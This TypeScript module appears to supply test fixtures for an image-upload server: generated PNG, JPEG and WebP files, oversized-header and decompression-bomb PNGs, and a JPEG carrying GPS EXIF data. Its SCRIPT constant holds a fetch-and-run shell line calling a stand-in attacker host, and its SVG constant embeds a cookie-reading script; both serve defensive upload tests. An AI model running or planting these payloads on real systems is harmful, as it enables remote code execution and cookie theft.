import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { crc32, deflateSync } from 'node:zlib';
import encodePng, { init as initPngEncode } from '@jsquash/png/encode.js';
import encodeWebp, { init as initWebpEncode } from '@jsquash/webp/encode.js';
import { createImageCodecs, type Pixels } from '../lib/images/codecs.ts';
import { nodeCodecWasm } from '../lib/images/node-wasm.ts';

// Real image files for the upload tests, made by the same codecs the server uses (plus their PNG and WebP encoders)
// or written byte by byte where a file must lie about itself.

const require = createRequire(import.meta.url);

/** The server's codecs, for making JPEGs and reading stored files back. */
export const testCodecs = createImageCodecs(nodeCodecWasm);

/** A width x height picture: a diagonal colour gradient, opaque unless `alpha` is given for every pixel. */
export function gradient(width: number, height: number, alpha = 255): Pixels {
  const data = new Uint8ClampedArray(width * height * 4);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const i = (y * width + x) * 4;
      data[i] = Math.round((x / Math.max(1, width - 1)) * 255);
      data[i + 1] = Math.round((y / Math.max(1, height - 1)) * 255);
      data[i + 2] = 128;
      data[i + 3] = alpha;
    }
  }
  return { data, width, height };
}

let pngReady: Promise<unknown> | undefined;
export async function pngFile(image: Pixels): Promise<Uint8Array> {
  // The PNG encoder shares the decoder's module; without it, it would try to fetch the file.
  pngReady ??= nodeCodecWasm().then((wasm) => initPngEncode(wasm.pngDecode));
  await pngReady;
  return new Uint8Array(await encodePng(image as ImageData));
}

export async function jpegFile(image: Pixels, quality = 90): Promise<Uint8Array> {
  return testCodecs.encodeJpeg(image, quality);
}

let webpReady: Promise<unknown> | undefined;
export async function webpFile(image: Pixels): Promise<Uint8Array> {
  webpReady ??= readFile(require.resolve('@jsquash/webp/codec/enc/webp_enc_simd.wasm'))
    .then((bytes) => WebAssembly.compile(bytes))
    .then((module) => (initWebpEncode as unknown as (m: WebAssembly.Module) => Promise<void>)(module));
  await webpReady;
  return new Uint8Array(await encodeWebp(image as ImageData, { quality: 90 }));
}

const text = (s: string) => new TextEncoder().encode(s);

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

/** Big-endian writer for the hand-made headers below. */
function be(bytes: number, value: number): Uint8Array {
  const out = new Uint8Array(bytes);
  for (let i = 0; i < bytes; i += 1) out[bytes - 1 - i] = Math.floor(value / 256 ** i) % 256;
  return out;
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const body = concat(text(type), data);
  return concat(be(4, data.length), body, be(4, crc32(body)));
}

/**
 * A 60-byte PNG whose header declares width x height pixels (8-bit RGBA unless told) with a valid CRC, followed by
 * an empty image: a decoder that trusted the header would allocate width x height x 4 bytes before noticing.
 */
export function pngDeclaring(width: number, height: number, { bitDepth = 8, colorType = 6 } = {}): Uint8Array {
  const ihdr = concat(be(4, width), be(4, height), new Uint8Array([bitDepth, colorType, 0, 0, 0]));
  return concat(
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', new Uint8Array([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    pngChunk('IEND', new Uint8Array()),
  );
}

/**
 * Issue 34's probe: a valid PNG of width x height black pixels (8-bit RGB). Zeros deflate about a thousand to one,
 * so 8192 x 4800 (39 megapixels, inside D23's limits) is a 114 KB file that costs the server seconds to process.
 */
export function blankPng(width: number, height: number): Uint8Array {
  const key = `${width}x${height}`;
  // Deflating the zeros takes a while: each size is made once per test file, and every caller gets its own copy.
  const made = (blankPngs[key] ??= makeBlankPng(width, height));
  return made.slice();
}
const blankPngs: Record<string, Uint8Array> = {};

function makeBlankPng(width: number, height: number): Uint8Array {
  const ihdr = concat(be(4, width), be(4, height), new Uint8Array([8, 2, 0, 0, 0]));
  // Each row: a filter byte (0) and 3 bytes a pixel, all zero.
  const rows = new Uint8Array((width * 3 + 1) * height);
  return concat(
    new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', new Uint8Array(deflateSync(rows, { level: 9 }))),
    pngChunk('IEND', new Uint8Array()),
  );
}

/**
 * A photo-like JPEG of a member's normal upload: a gradient with fine grain (the same on every run), which keeps the
 * file at the size of a real picture (1024 x 1024 at quality 90: 192 KB).
 */
export async function photoJpeg(width = 1024, height = 1024): Promise<Uint8Array> {
  const image = gradient(width, height);
  let seed = 34;
  for (let i = 0; i < image.data.length; i += 4) {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    const grain = (seed % 19) - 9;
    image.data[i] = image.data[i]! + grain;
    image.data[i + 1] = image.data[i + 1]! - grain;
  }
  return jpegFile(image, 90);
}

/** Text that an attacker would name `.png`: a shell script. */
export const SCRIPT = text('#!/bin/sh\ncurl -s https://attacker.example/payload | sh\n');

/** An SVG picture with a script inside: XML, not one of the three image types. */
export const SVG = text(
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
);

/** The place the EXIF block below says the picture was taken: must never reach a stored file. */
export const GPS_TEXT = 'Taken at 33.7490 N 84.3880 W';

/**
 * An EXIF APP1 segment (big-endian TIFF) with an ImageDescription naming the place and a GPS IFD (latitude
 * 33 deg 44' 56" N, longitude 84 deg 23' 17" W), as a phone writes into its photos.
 */
export function exifWithGps(): Uint8Array {
  const description = text(`${GPS_TEXT}\0`);
  // Layout after the 8-byte TIFF header: IFD0 (2 entries), then the GPS IFD (4 entries), then the values.
  const ifd0At = 8;
  const ifd0Size = 2 + 2 * 12 + 4;
  const gpsAt = ifd0At + ifd0Size;
  const gpsSize = 2 + 4 * 12 + 4;
  const descAt = gpsAt + gpsSize;
  const latAt = descAt + description.length;
  const lonAt = latAt + 24;
  const entry = (tag: number, type: number, count: number, value: Uint8Array) =>
    concat(be(2, tag), be(2, type), be(4, count), value);
  const rationals = (...pairs: [number, number][]) => concat(...pairs.flatMap(([n, d]) => [be(4, n), be(4, d)]));
  const tiff = concat(
    text('MM'),
    be(2, 42),
    be(4, ifd0At),
    be(2, 2),
    entry(0x010e, 2, description.length, be(4, descAt)), // ImageDescription
    entry(0x8825, 4, 1, be(4, gpsAt)), // GPSInfo IFD pointer
    be(4, 0),
    be(2, 4),
    entry(0x0001, 2, 2, concat(text('N'), new Uint8Array(3))), // GPSLatitudeRef
    entry(0x0002, 5, 3, be(4, latAt)), // GPSLatitude
    entry(0x0003, 2, 2, concat(text('W'), new Uint8Array(3))), // GPSLongitudeRef
    entry(0x0004, 5, 3, be(4, lonAt)), // GPSLongitude
    be(4, 0),
    description,
    rationals([33, 1], [44, 1], [56, 1]),
    rationals([84, 1], [23, 1], [17, 1]),
  );
  const payload = concat(text('Exif\0\0'), tiff);
  return concat(new Uint8Array([0xff, 0xe1]), be(2, payload.length + 2), payload);
}

/** A JPEG with the GPS EXIF segment placed right after its start-of-image marker, where cameras put it. */
export async function jpegWithGps(image: Pixels): Promise<Uint8Array> {
  const jpeg = await jpegFile(image);
  return concat(jpeg.subarray(0, 2), exifWithGps(), jpeg.subarray(2));
}

/** The JPEG's marker segments before its image data, as [marker, payload] (FF D8 and the scan excluded). */
export function jpegSegments(jpeg: Uint8Array): { marker: number; payload: Uint8Array }[] {
  const segments: { marker: number; payload: Uint8Array }[] = [];
  let at = 2;
  while (at + 4 <= jpeg.length && jpeg[at] === 0xff) {
    const marker = jpeg[at + 1]!;
    if (marker === 0xda) break; // start of scan: entropy-coded data follows
    const length = jpeg[at + 2]! * 256 + jpeg[at + 3]!;
    segments.push({ marker, payload: jpeg.subarray(at + 4, at + 2 + length) });
    at += 2 + length;
  }
  return segments;
}

/** Whether `needle` occurs anywhere in `bytes`. */
export function containsBytes(bytes: Uint8Array, needle: Uint8Array | string): boolean {
  const n = typeof needle === 'string' ? text(needle) : needle;
  outer: for (let i = 0; i + n.length <= bytes.length; i += 1) {
    for (let j = 0; j < n.length; j += 1) if (bytes[i + j] !== n[j]) continue outer;
    return true;
  }
  return false;
}

export { concat };
